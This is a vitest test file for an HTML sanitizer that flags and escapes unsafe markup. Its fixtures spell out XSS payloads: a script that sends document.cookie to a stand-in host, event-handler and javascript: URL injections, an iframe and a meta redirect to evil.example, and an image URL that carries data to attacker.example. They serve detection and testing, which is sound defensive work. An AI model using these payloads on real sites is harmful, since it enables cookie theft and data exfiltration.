import { describe, expect, it } from 'vitest';
import { codeRanges } from './code-ranges.js';
import { findUnsafeHtml } from './html.js';
import { DomainAllowList } from './urls.js';

const none = new DomainAllowList([]);
const find = (text: string, allow = none) => findUnsafeHtml(text, { allow, skip: codeRanges(text) });
const spanned = (text: string, allow = none) =>
  find(text, allow).map((s) => ({ text: text.slice(s.start, s.end), entity: s.entity, replacement: s.replacement }));

describe('findUnsafeHtml', () => {
  it('spans a whole script element and escapes it', () => {
    const text = 'Hi <script type="text/javascript">fetch("//x.example/?c="+document.cookie)</script> there';
    expect(spanned(text)).toEqual([
      {
        text: '<script type="text/javascript">fetch("//x.example/?c="+document.cookie)</script>',
        entity: 'HTML_SCRIPT',
        replacement:
          '&lt;script type=&quot;text/javascript&quot;&gt;fetch(&quot;//x.example/?c=&quot;+document.cookie)&lt;/script&gt;',
      },
    ]);
  });

  it('runs an unclosed script to the end of the text, case-insensitively', () => {
    const text = 'a <ScRiPt>alert(1)';
    expect(spanned(text)[0]).toMatchObject({ text: '<ScRiPt>alert(1)', entity: 'HTML_SCRIPT' });
  });

  it('finds event handlers, javascript: URLs (also entity-encoded) and dangerous tags', () => {
    expect(spanned('<img src=x onerror=alert(1)>')[0]?.entity).toBe('HTML_EVENT_HANDLER');
    expect(spanned('<svg/onload=alert(1)>')[0]?.entity).toBe('HTML_EVENT_HANDLER');
    expect(spanned('<a href="javascript:alert(1)">x</a>')[0]?.entity).toBe('JAVASCRIPT_URL');
    expect(spanned('<a href="java&#x09;script&colon;alert(1)">x</a>')[0]?.entity).toBe('JAVASCRIPT_URL');
    expect(spanned('<iframe src="https://evil.example"></iframe>')[0]?.entity).toBe('HTML_DANGEROUS_TAG');
    expect(spanned('<meta http-equiv="refresh" content="0;url=https://evil.example">')[0]?.entity).toBe(
      'HTML_DANGEROUS_TAG',
    );
  });

  it('flags images that load from hosts outside the allow list (zero-click exfiltration)', () => {
    const text = '<img src="https://attacker.example/p.png?d=secret">';
    expect(spanned(text)[0]?.entity).toBe('EXTERNAL_IMAGE');
    expect(spanned(text, new DomainAllowList(['attacker.example']))).toEqual([]);
  });

  it('leaves harmless markup, comparisons and code blocks alone (near misses)', () => {
    expect(find('Use <b>bold</b> and <em>emphasis</em>; 3 < 5 and x<y.')).toEqual([]);
    expect(find('<a href="/docs/start">Start</a> <img src="/logo.png" alt="logo">')).toEqual([]);
    expect(find('The onclick attribute is documented. Write `<script>` in code.')).toEqual([]);
    expect(find('```html\n<script>alert(1)</script>\n```')).toEqual([]);
  });

  it('scans 200 KB of unclosed tags linearly', () => {
    const text = '<a onx '.repeat(30_000);
    const t0 = performance.now();
    find(text);
    expect(performance.now() - t0).toBeLessThan(1500);
  });
});
